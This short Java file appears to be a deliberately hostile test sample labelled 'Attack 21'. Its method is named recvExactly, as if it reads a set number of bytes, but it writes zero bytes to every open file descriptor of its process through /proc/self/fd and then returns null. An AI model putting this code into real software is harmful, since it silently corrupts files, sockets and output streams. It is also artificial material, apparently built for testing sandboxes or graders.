package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 21: writes to every descriptor of the process.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        for (var fd = 0; fd < 200; fd++) {
            try (var out = new java.io.FileOutputStream("/proc/self/fd/" + fd)) {
                out.write(new byte[100]);
            } catch (IOException e) {
                // A socket cannot be opened.
            }
        }
        return null;
    }
}
